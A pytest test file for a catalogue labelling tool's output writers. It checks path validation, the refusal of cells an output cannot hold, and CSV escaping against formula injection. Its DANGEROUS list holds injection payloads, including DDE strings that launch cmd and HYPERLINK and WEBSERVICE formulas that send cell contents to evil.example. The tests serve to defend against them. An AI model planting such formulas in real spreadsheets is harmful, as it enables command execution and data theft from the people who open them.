"""Output paths; cells that an output cannot hold, which are refused before labelling; all other cells."""

import csv
import io
import json
import math
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from catalogue.catalogue import open_catalogue
from catalogue.photo import PhotoRequest
from catalogue.urls import cell_texts
from catalogue.writers import (
    check_output,
    csv_lines,
    escape_formula,
    unescape_formula,
    with_checked_cells,
    without_formula,
)
from models.errors import ImageFault, InputError
from models.storage.storage import FolderStorage
from tests.photo_jobs import only_question, take_all
from tests.row_results import part_bytes
from tests.unit.worker.answers import sure
from worker.job.job import Job, photos_of
from worker.job.parts import part_key
from worker.job.writer import create_job
from worker.results.merge import merge_job

SUFFIXES = (".parquet", ".csv", ".jsonl")


@pytest.mark.parametrize(
    "name", ["out.xlsx", "out", "nowhere/out.csv", f"{'é' * 99}.csv", "/proc/labels.parquet", "a.csv"]
)
def test_an_output_that_cannot_be_written_is_refused_at_once(tmp_path: Path, name: str) -> None:
    (tmp_path / "a.csv").mkdir()
    with pytest.raises(InputError):
        check_output(tmp_path / name)


def test_a_folder_that_takes_no_file_is_told_by_name_and_reason() -> None:
    with pytest.raises(InputError, match="/proc"):
        check_output(Path("/proc/labels.parquet"))


def test_an_output_elsewhere_is_refused_and_a_folder_may_be_called_like_it(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    for url in ("s3://shop/labels.parquet", "https://shop.example/labels.csv"):
        with pytest.raises(InputError, match=url):
            check_output(Path(url))
    (tmp_path / "s3:").mkdir()
    check_output(Path("s3:/labels.parquet"))


def test_a_spreadsheets_option_is_refused_where_no_spreadsheet_reads(tmp_path: Path) -> None:
    check_output(tmp_path / "OUT.CSV", excel_safe=True)
    for name in ("out.parquet", "out.jsonl"):
        check_output(tmp_path / name)
        with pytest.raises(InputError, match="--excel-safe"):
            check_output(tmp_path / name, excel_safe=True)


DANGEROUS = (
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"!A0")', "=DDE(server; file; item; mode)",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
    '=WEBSERVICE("http://evil.example/"&A2)', '="', "=", "+", "-", "@", "--1", "+-+1", "-5-cmd",
    "-5e", "+3.2=1", "- wool", "\t=1+1", "\tshoes", "\r=1+1", "\rshoes", "\n=1+1", "\nshoes",
    "\r\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\x00=1+1", "\x08 @x", " \t@x",
    "＝1+1", "＋1", "－1", "＠SUM(1)", '=1+1";=1+1', "=1+1,=1+1", "-\u0665",
)  # fmt: skip
HARMLESS = (
    "", "shoes", "-5", "+3.2", "-.5", "-1,234.50", "+1e-7", "5-3", "a=b", "me@example.com", "'=1+1",
    '"=1+1"', "00123", " shoes", "photos/a b.jpg", "https://shop.example/a.jpg?x=1&y=-2",
    "shoes 0.52; hats 0.31", "кеды", "−5", "#REF", "shoes\n=1+1",
)  # fmt: skip


def round_trip(cell: object) -> str:
    ((first, read, last),) = csv.reader(io.StringIO("".join(csv_lines([["a", cell, "b"]])), newline=""))
    assert (first, last) == ("a", "b")
    return read


def test_a_formula_is_text_after_a_round_trip_and_what_is_none_stays_as_it_is() -> None:
    assert [round_trip(without_formula(cell)) for cell in DANGEROUS] == [f"'{cell}" for cell in DANGEROUS]
    assert [round_trip(without_formula(cell)) for cell in HARMLESS] == list(HARMLESS)
    for cell in (None, -5, -0.5, True, float("-inf")):
        assert without_formula(cell) is cell
    assert without_formula(" " * 1_000_000 + "shoes") == " " * 1_000_000 + "shoes"
    assert str(without_formula("-" + "1" * 1_000_000 + "x")).startswith("'-1")


TEXTS = st.text() | st.from_regex(r"'{0,3}[ \t]?[=+@-][0-9a-z]*", fullmatch=True)


@given(TEXTS)
def test_a_cell_comes_back_as_it_was_and_starts_no_formula(text: str) -> None:
    assert unescape_formula(escape_formula(text)) == text
    assert without_formula(escape_formula(text)) == escape_formula(text)


def text_of(cells: Sequence[bytes | None]) -> pa.Array:
    return pa.array(cells, pa.binary()).view(pa.string())


def made_job(table: pa.Table, folder: Path, suffix: str) -> Job:
    pq.write_table(table, folder / "rows.parquet")
    catalogue = with_checked_cells(open_catalogue(folder / "rows.parquet", "image"), suffix)
    return create_job(FolderStorage(folder / f"job{suffix}"), catalogue, only_question(), chunk_rows=2)


def merged(job: Job, output: Path) -> Path:
    for chunk in range(job.spec.chunks):
        rows = [sure("shoe", math.nan) for _ in range(job.rows_in_chunk(chunk))]
        job.storage.commit(part_key(chunk), part_bytes(rows, job.spec.id, "shop-7:42", 0.5, 0))
    merge_job(job, output, output.parent)
    return output


def strict_json(text: str) -> object:
    def refuse(constant: str) -> None:
        raise AssertionError(constant)

    return json.loads(text, parse_constant=refuse)


DIRTY = text_of([b"a", b"\xff"])
REFUSED = {
    "bytes in text": (DIRTY, SUFFIXES, "row 2"),
    "bytes in a list of texts": (pa.ListArray.from_arrays([0, 1, 2], DIRTY), SUFFIXES, "row 2"),
    "bytes in a dictionary": (DIRTY.dictionary_encode(), SUFFIXES, "row 2"),
    "no such time zone": (pa.array([None, 1], pa.timestamp("ns", "Mars/X")), SUFFIXES[1:], "Mars"),
    "bytes of one size": (pa.array([b"ab", b"cd"], pa.binary(2)), SUFFIXES[1:], r"\.parquet"),
    "a list of bytes": (pa.array([[b"ab"], []], pa.list_(pa.binary())), SUFFIXES[1:], "bytes"),
    "what says it is JSON": (pa.array(["{}", "{"]), SUFFIXES[2:], "row 2"),
}


@pytest.mark.parametrize("suffix", SUFFIXES)
@pytest.mark.parametrize("what", REFUSED)
def test_what_cannot_be_written_is_refused_before_the_first_photo(tmp_path: Path, what: str, suffix: str) -> None:
    cells, refused, names = REFUSED[what]
    field = pa.field("more", cells.type, metadata={"hangtag": "json"} if "JSON" in what else None)
    table = pa.table([pa.array(["a.jpg", "b.jpg"]), cells], schema=pa.schema([("image", pa.string()), field]))
    if suffix not in refused:
        merged(made_job(table, tmp_path, suffix), tmp_path / f"out{suffix}")
        return
    with pytest.raises(InputError, match=names) as refusal:
        made_job(table, tmp_path, suffix)
    assert "more" in str(refusal.value)
    assert not (tmp_path / f"job{suffix}" / "job.json").exists()


def test_the_row_is_that_of_the_catalogue(tmp_path: Path) -> None:
    rows = 10_000
    table = pa.table({"image": ["a.jpg"] * rows, "title": text_of([b"x"] * (rows - 1) + [b"\xe9"])})
    with pytest.raises(InputError, match=r"'title' of .*row 10,000"):
        made_job(table, tmp_path, ".parquet")


def test_an_image_cell_that_is_no_text_fails_its_row_alone(tmp_path: Path) -> None:
    (tmp_path / "a.jpg").write_bytes(b"photo")
    job = made_job(pa.table({"image": text_of([b"a.jpg", b"\xff.jpg", None])}), tmp_path, ".csv")
    photos = photos_of(job)
    cells = [*job.chunk_images(0), *job.chunk_images(1)]
    photos.request([PhotoRequest(0, row, cell) for row, cell in enumerate(cells)], {})
    first, second, third = (photo.outcome for photo in take_all(photos, 3))
    assert first == b"photo"
    assert second.fault is ImageFault.REFUSED
    assert r"in UTF-8, got b'\xff.jpg'" in str(second)
    assert third.fault is ImageFault.EMPTY_CELL
    lines = merged(job, tmp_path / "out.csv").read_text().splitlines()
    assert [line.partition(",")[0] for line in lines] == ["image", "a.jpg", r"\xff.jpg", ""]


LEAVES = {
    pa.string(): st.text(max_size=3),
    pa.large_string(): st.text(max_size=3),
    pa.binary(): st.binary(max_size=3),
    pa.binary(2): st.binary(min_size=2, max_size=2),
    pa.int8(): st.integers(-128, 127),
    pa.uint64(): st.integers(0, 2**64 - 1),
    pa.float32(): st.floats(width=32),
    pa.float64(): st.floats(),
    pa.bool_(): st.booleans(),
    pa.decimal128(5, 2): st.decimals(-100, 100, places=2),
    pa.date32(): st.integers(-(2**31), 2**31 - 1),
    pa.timestamp("ns"): st.integers(-(2**63), 2**63 - 1),
    pa.timestamp("us", "Europe/Berlin"): st.integers(-(2**62), 2**62),
    pa.time64("ns"): st.integers(0, 86_399_999_999_999),
    pa.duration("ns"): st.integers(-(2**63), 2**63 - 1),
}


def arrays(rows: int) -> st.SearchStrategy[pa.Array]:
    def typed(kind: pa.DataType, values: st.SearchStrategy[object]) -> tuple[pa.DataType, st.SearchStrategy[object]]:
        return kind, st.none() | values

    leaves = st.sampled_from([typed(*leaf) for leaf in LEAVES.items()])
    kinds = st.recursive(
        leaves,
        lambda inner: st.one_of(
            inner.map(lambda one: typed(pa.list_(one[0]), st.lists(one[1], max_size=2))),
            inner.map(lambda one: typed(pa.large_list(one[0]), st.lists(one[1], max_size=2))),
            inner.map(lambda one: typed(pa.list_(one[0], 2), st.lists(one[1], min_size=2, max_size=2))),
            inner.map(lambda one: typed(pa.struct([("a", one[0])]), st.fixed_dictionaries({"a": one[1]}))),
            inner.map(
                lambda one: typed(
                    pa.map_(pa.string(), one[0]), st.lists(st.tuples(st.text(max_size=2), one[1]), max_size=2)
                )
            ),
        ),
        max_leaves=3,
    )
    return (leaves | kinds).flatmap(
        lambda one: st.lists(one[1], min_size=rows, max_size=rows).map(lambda cells: pa.array(cells, one[0]))
    )


@st.composite
def tables(draw: st.DrawFn) -> pa.Table:
    rows = draw(st.integers(1, 4))
    dirty = st.lists(st.none() | st.binary(max_size=3), min_size=rows, max_size=rows).map(text_of)
    columns = draw(st.lists(arrays(rows), max_size=2))
    if draw(st.integers(0, 4)) == 0:
        columns.append(draw(dirty | dirty.map(lambda cells: cells.dictionary_encode())))
    return pa.table([draw(dirty), *columns], names=["image", "a.b", "ä", ""][: 1 + len(columns)])


@settings(max_examples=20)
@given(table=tables())
def test_any_table_is_refused_at_once_or_comes_out_whole(
    table: pa.Table, tmp_path_factory: pytest.TempPathFactory
) -> None:
    folder = tmp_path_factory.mktemp("any")
    for suffix in SUFFIXES:
        try:
            job = made_job(table, folder, suffix)
        except InputError as error:
            assert "UTF8" in str(error) or "holds bytes" in str(error)  # noqa: PT017 - it may come or not
            continue
        check_whole(table, merged(job, folder / f"out{suffix}"))


def check_whole(table: pa.Table, output: Path) -> None:
    names = table.column_names[1:]
    images = cell_texts(table.column("image"))
    if output.suffix == ".parquet":
        result, source = pq.read_table(output), pq.read_table(output.with_name("rows.parquet"))
        assert cell_texts(result.column("image")) == images
        for name in names:
            assert result.column(name).type == source.column(name).type
            assert result.column(name).to_string(window=9) == source.column(name).to_string(window=9)
    elif output.suffix == ".csv":
        with output.open(newline="", encoding="utf-8") as file:
            rows = list(csv.DictReader(file))
        assert [row["image"] for row in rows] == [cell or "" for cell in images]
        for name in names:
            if pa.types.is_nested(table.schema.field(name).type):
                assert all(row[name] == "" or strict_json(row[name]) is not None for row in rows)
    else:
        lines = [strict_json(line) for line in output.read_text(encoding="utf-8").split("\n")[:-1]]
        assert [line["image"] for line in lines] == images
        assert all(list(line)[: len(names) + 1] == table.column_names for line in lines)


def test_a_type_whose_rows_cannot_be_taken_is_refused_by_name(tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_text("image\na.jpg\n")
    catalogue = open_catalogue(tmp_path / "a.csv")
    for kind in (pa.string_view(), pa.month_day_nano_interval(), pa.run_end_encoded(pa.int32(), pa.string())):
        strange = replace(catalogue, schema=pa.schema([*catalogue.schema, pa.field("strange", kind)]))
        with pytest.raises(InputError, match="'strange' has the type"):
            with_checked_cells(strange, ".parquet")
